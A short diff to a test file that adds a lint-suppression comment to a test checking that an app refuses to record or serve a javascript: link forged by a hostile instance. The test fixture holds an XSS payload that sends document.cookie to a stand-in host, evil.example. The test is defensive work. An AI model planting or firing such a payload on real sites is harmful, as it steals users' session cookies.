@@ -127,6 +127,7 @@ describe("a hostile instance's permalinks", () => {
   it('records and serves no javascript: remoteUrl, though the post was published', async () => {
     const connectionId = (await connect()).searchParams.get('connectionId');
     expect(connectionId).toBeTruthy();
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a script a hostile network hands over, not a template of ours
     instance.forged = { statusUrl: 'javascript:fetch(`//evil.example/${document.cookie}`)' };
     const created = await api('POST', '/posts', { content: { caption: 'Hello', mediaIds: [] }, targets: [{ connectionId, placement: 'feed' }] });
     await api('POST', `/posts/${created.body.data.id}/publish`);
